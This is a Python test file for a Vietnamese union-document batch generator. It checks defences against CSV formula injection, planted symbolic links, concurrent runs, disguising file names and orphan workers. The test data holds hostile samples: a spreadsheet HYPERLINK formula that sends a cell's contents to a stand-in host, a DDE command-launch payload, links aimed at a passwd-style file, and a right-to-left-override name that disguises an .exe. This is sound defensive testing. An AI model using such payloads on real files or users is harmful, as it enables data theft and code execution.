"""Issue 14, items 5-9: formula injection in the CSVs the batch writes, symbolic links, two
runs into one folder, Windows-reserved and disguising file names, orphan workers."""

from __future__ import annotations

import csv
import hashlib
import itertools
import json
import os
import signal
import subprocess
import sys
import textwrap
import time
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from conftest import BATCH_SPEC, make_spec
from hypothesis import given, settings
from hypothesis import strategies as st

from vn_union_docs import files
from vn_union_docs.batch import (
    ERRORS_NAME,
    MANIFEST_NAME,
    FolderBusyError,
    check_name,
    generate,
)
from vn_union_docs.batch.source import read_rows
from vn_union_docs.batch.state import FolderLock
from vn_union_docs.files import csv_safe, write_atomic

REPO = Path(__file__).resolve().parents[2]

SPEC: dict[str, Any] = make_spec(BATCH_SPEC)


def rows(*names: str) -> list[dict[str, Any]]:
    return [{"ma": name, "so": 10 + i, "ten": f"CĐCS số {i}"} for i, name in enumerate(names)]


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def write_csv(path: Path, n: int) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["ma", "so", "ten"])
        writer.writerows([f"{i:04d}", i, f"CĐCS số {i}"] for i in range(1, n + 1))
    return path


# --- 5. formula injection -------------------------------------------------------------------

FORMULAS = ["=1+1", "@SUM(1+1)", '=IFERROR(HYPERLINK("http://x.example/?"&A1,"bấm"),"")',
            "+1+1", "-1+1", "\t=1+1", "\r=1+1"]


def test_formula_cells_never_reach_a_csv_unneutralised(tmp_path: Path) -> None:
    out = tmp_path / "out"
    report = generate(SPEC, rows("0001", *FORMULAS), out, name="{{ ma }}", jobs=1)
    # the file names themselves are refused (a name is also the manifest's first cell)
    assert report.written == ["0001.docx"]
    assert report.failed_rows == list(range(2, 2 + len(FORMULAS)))
    for path in (out / MANIFEST_NAME, out / ERRORS_NAME):
        for line in cells(path):
            for cell in line:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, cell)
    # read back through the report, the text is the clerk's own
    assert report.failed[0].field == "--name"
    assert [p.name for p in out.iterdir() if not p.name.startswith(".")] == sorted(
        ["0001.docx", MANIFEST_NAME, ERRORS_NAME])


def test_formula_in_a_column_name_or_message_is_neutralised(tmp_path: Path) -> None:
    spec = {**SPEC, "number": "{{ so }}"}
    data = tmp_path / "d.csv"
    data.write_text("ma,so,ten\n0001,=cmd|' /C calc'!A0,CĐCS\n", encoding="utf-8")
    generate(spec, read_rows(data), tmp_path / "out", name="{{ ma }}", jobs=1)
    lines = cells(tmp_path / "out" / ERRORS_NAME)
    assert len(lines) >= 2
    assert all(not c.startswith(("=", "+", "-", "@")) for line in lines for c in line)


def test_csv_safe() -> None:
    assert [csv_safe(v) for v in ["=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", 5, -5]] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", 5, -5]


# --- 6. symbolic links ----------------------------------------------------------------------


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    path = tmp_path / "victim.txt"
    path.write_text("root:x:0:0:root:/root:/bin/bash\n")
    return path


LINK_NAMES = [".vnud-_errors.csv.tmp", ".vnud-_errors.csv.part", ".vnud-_manifest.csv.part",
              ".vnud-_manifest.csv.tmp", ".vnud-names.sqlite", ".vnud-names.sqlite-wal",
              ".vnud-lock", ".vnud-checkpoint.json", "_manifest.csv", "_errors.csv"]


@pytest.mark.parametrize("strict", [True, False])
def test_planted_links_in_the_output_folder_are_never_written_through(
        tmp_path: Path, victim: Path, strict: bool) -> None:
    out = tmp_path / "out"
    out.mkdir()
    for name in LINK_NAMES:
        (out / name).symlink_to(victim)
    bad = rows("0001", "0002", "0003")
    bad[1]["so"] = "hai"  # a bad row: the errors file is written
    report = generate(SPEC, bad, out, name="{{ ma }}", jobs=1, strict=strict)
    assert victim.read_text() == "root:x:0:0:root:/root:/bin/bash\n"
    assert report.failed_rows == [2]
    assert (out / ERRORS_NAME).is_file() and not (out / ERRORS_NAME).is_symlink()


def test_skip_existing_does_not_take_a_link_for_a_document(
        tmp_path: Path, victim: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "0002.docx").symlink_to(victim)  # planted: "0002.docx -> /etc/passwd"
    report = generate(SPEC, rows("a", "b"), out, jobs=1, skip_existing=True)
    assert report.written == ["0001.docx", "0002.docx"] and report.skipped == []
    assert not (out / "0002.docx").is_symlink()  # the link was replaced, its target kept
    assert victim.read_text().startswith("root:")
    digest = hashlib.sha256((out / "0002.docx").read_bytes()).hexdigest()
    assert cells(out / MANIFEST_NAME)[2] == ["0002.docx", "2", digest]
    assert hashlib.sha256(victim.read_bytes()).hexdigest() not in (out / MANIFEST_NAME).read_text()


def test_write_atomic_never_writes_through_a_planted_temporary_link(
        tmp_path: Path, victim: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "_counter", itertools.count())
    target = tmp_path / "x.docx"
    (tmp_path / f".x.docx.{os.getpid()}.0.part").symlink_to(victim)
    write_atomic(target, b"document")
    assert target.read_bytes() == b"document" and victim.read_text().startswith("root:")


# --- 7. two runs into one folder ---------------------------------------------------------------


def test_a_second_run_into_a_locked_folder_says_which_run_has_it(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    lock = FolderLock(out)
    lock.acquire()
    try:
        with pytest.raises(FolderBusyError) as caught:
            generate(SPEC, rows("a"), out, jobs=1)
        assert f"tiến trình {os.getpid()}" in str(caught.value)
        assert not list(out.glob("*.docx"))
    finally:
        lock.release()
    assert generate(SPEC, rows("a"), out, jobs=1).ok  # released: the folder is usable again
    assert not (out / ".vnud-lock").exists()


def test_two_processes_into_one_folder(tmp_path: Path) -> None:
    """The issue's case: two runs started into one folder. The second is refused at once;
    the first finishes with every file and a complete manifest."""
    spec = tmp_path / "s.json"
    spec.write_text(json.dumps(SPEC, ensure_ascii=False), encoding="utf-8")
    data = write_csv(tmp_path / "d.csv", 300)
    out = tmp_path / "out"
    script = textwrap.dedent(f"""
        import os, sys, time
        from vn_union_docs.batch import generate, FolderBusyError
        from vn_union_docs.batch.source import read_rows
        if sys.argv[1] == "second":  # start once the first run is under way
            while not os.path.exists({str(out / ".vnud-lock")!r}):
                time.sleep(0.01)
        try:
            generate({str(spec)!r}, read_rows({str(data)!r}), {str(out)!r}, jobs=1,
                     on_progress=lambda done, total: time.sleep(0.3))  # a long run
        except FolderBusyError as error:
            print(error)
            sys.exit(3)
    """)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(REPO), *sys.path])}
    second = subprocess.Popen([sys.executable, "-c", script, "second"], env=env,
                              stdout=subprocess.PIPE, text=True)
    first = subprocess.Popen([sys.executable, "-c", script, "first"], env=env,
                             stdout=subprocess.PIPE, text=True)
    said, _ = second.communicate(timeout=300)
    first.communicate(timeout=300)
    assert first.returncode == 0
    assert second.returncode == 3 and f"tiến trình {first.pid}" in said
    assert len(cells(out / MANIFEST_NAME)) == 301
    assert len(list(out.glob("*.docx"))) == 300


# --- 8. file names ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [
    "COM¹.docx", "COM².docx", "LPT³.docx", "com¹.tar.docx", "CONIN$.docx", "conout$.docx",
    "CLOCK$.docx", "CON .docx", "x\u202egpj.exe.docx", "a\u2028b.docx", "a\u2029b.docx",
    "a\u200bb.docx", "a\u202db.docx", "a\u2066b.docx", "a\ud800b.docx", "ab .docx", "ab..docx",
    "=1+1.docx", "@x.docx", "+x.docx", "-x.docx",
])
def test_check_name_refuses_reserved_and_disguising_names(name: str) -> None:
    assert check_name(name)


@pytest.mark.parametrize("name", ["COM10.docx", "CONSOLE.docx", "Công đoàn số 1.docx",
                                  "a-b=c.docx", "CĐCS (mới).docx", "Ý kiến.docx"])
def test_check_name_keeps_ordinary_names(name: str) -> None:
    assert check_name(name) is None


def test_disguising_name_from_a_cell_is_a_row_error(tmp_path: Path) -> None:
    report = generate(SPEC, rows("ok", "x\u202egpj.exe", "COM¹", "CLOCK$", "a\u2028b"),
                      tmp_path, name="{{ ma }}", jobs=1)
    assert report.written == ["ok.docx"]
    messages = {f.row: f.message for f in report.failed}
    assert "U+202E" in messages[2] and "U+2028" in messages[5]
    assert "COM¹" in messages[3] and "CLOCK$" in messages[4]


# --- 9. orphan workers --------------------------------------------------------------------------


def _children(pid: int) -> list[int]:
    found = []
    for task in os.listdir(f"/proc/{pid}/task"):
        with open(f"/proc/{pid}/task/{task}/children") as handle:
            found.extend(int(p) for p in handle.read().split())
    return found


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return handle.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="needs Linux /proc")
def test_workers_stop_when_only_the_main_process_is_killed(tmp_path: Path) -> None:
    spec = tmp_path / "s.json"
    spec.write_text(json.dumps(SPEC, ensure_ascii=False), encoding="utf-8")
    data = write_csv(tmp_path / "d.csv", 3000)
    out = tmp_path / "out"
    script = textwrap.dedent(f"""
        from vn_union_docs.batch import generate
        from vn_union_docs.batch.source import read_rows
        generate({str(spec)!r}, read_rows({str(data)!r}), {str(out)!r}, jobs=2)
    """)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(REPO), *sys.path])}
    main = subprocess.Popen([sys.executable, "-c", script], env=env, start_new_session=True)
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            if out.is_dir() and len(list(out.glob("*.docx"))) >= 20:
                break
            assert main.poll() is None, "the batch ended before it could be killed"
            time.sleep(0.01)
        workers = _children(main.pid)
        assert len(workers) >= 2
        main.send_signal(signal.SIGKILL)  # the main process only, not its group
        main.wait()
        at_kill = len(list(out.glob("*.docx")))
        deadline = time.monotonic() + 10
        while any(_alive(pid) for pid in workers) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not any(_alive(pid) for pid in workers), "workers outlived their parent"
        time.sleep(0.5)
        after = len(list(out.glob("*.docx")))
        # Orphans would finish the chunks they had (up to 6 × 64 rows); a worker killed
        # with its parent completes at most the rename it was in.
        assert after - at_kill <= 2, f"{after - at_kill} files written after the kill"
    finally:
        if main.poll() is None:
            main.kill()
        for pid in _children(main.pid) if _alive(main.pid) else []:
            os.kill(pid, signal.SIGKILL)


@settings(max_examples=300, deadline=None)
@given(name=st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from(
    ["\u202e", "\u200b", "\u2028", "\x07", ":", "|", "\ue000", "\xad", "\u3000"]),
    min_size=1, max_size=12))
def test_check_name_finds_what_a_look_at_every_character_finds(name: str) -> None:
    """The printable-first shortcut and the Windows-character search refuse exactly the names
    a check of every character's category and of every character refuses."""
    from vn_union_docs.batch.names import _DISGUISING, _WINDOWS_FORBIDDEN

    name = f"a{name}b.docx"
    disguised = any(unicodedata.category(ch) in _DISGUISING for ch in name)
    forbidden = any(ch in _WINDOWS_FORBIDDEN for ch in name)
    reason = check_name(name)
    if disguised or forbidden:
        assert reason is not None
    if disguised and "/" not in name and "\\" not in name and ".." not in name:
        assert reason is not None and ("U+" in reason)
    elif forbidden and "/" not in name and "\\" not in name and ".." not in name:
        assert reason is not None and "Windows không cho phép" in reason


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_bad_cell_fails_its_row_and_the_batch_goes_on(tmp_path: Path, jobs: int) -> None:
    # A control character (or a cell over a limit) in one row stopped the whole batch midway,
    # leaving no manifest (a review).
    path = write_csv(tmp_path / "rows.csv", 8)
    text = path.read_text(encoding="utf-8").splitlines()
    text[3] = text[3].replace("CĐCS", "CĐ\x01CS")
    text[6] = text[6].replace("CĐCS", "CĐ\x02CS")
    path.write_text("\n".join(text) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    report = generate(SPEC, read_rows(path), out, name="{{ ma }}", jobs=jobs)
    assert report.written_count == 6 and report.failed_row_count == 2
    errors = cells(out / ERRORS_NAME)
    assert [row[:2] for row in errors[1:]] == [["4", "ten"], ["7", "ten"]]
    assert "U+0001" in errors[1][2] and "U+0002" in errors[2][2]
    assert len(cells(out / MANIFEST_NAME)) == 7
    assert sorted(p.name for p in out.glob("*.docx")) == [
        f"{i:04d}.docx" for i in (1, 2, 4, 5, 7, 8)]


def test_an_empty_number_cell_is_named(tmp_path: Path) -> None:
    # «cần một số, nhận được None» did not say which cell (a review).
    from vn_union_docs.documents.spec import SpecTemplate
    from vn_union_docs.errors import SpecError

    spec = SpecTemplate(REPO / "examples" / "batch" / "cong_van_cdcs.yaml")
    cells = {"ma_cdcs": "0101", "ten_cdcs": "CĐCS A", "chu_tich": "Trần Văn B",
             "so_doan_vien": None, "so_sang_kien": 24, "chi_tieu": 40}
    with pytest.raises(SpecError) as caught:
        spec.document(cells, row=2)
    assert "ô «so_doan_vien» để trống" in caught.value.problems[0].message
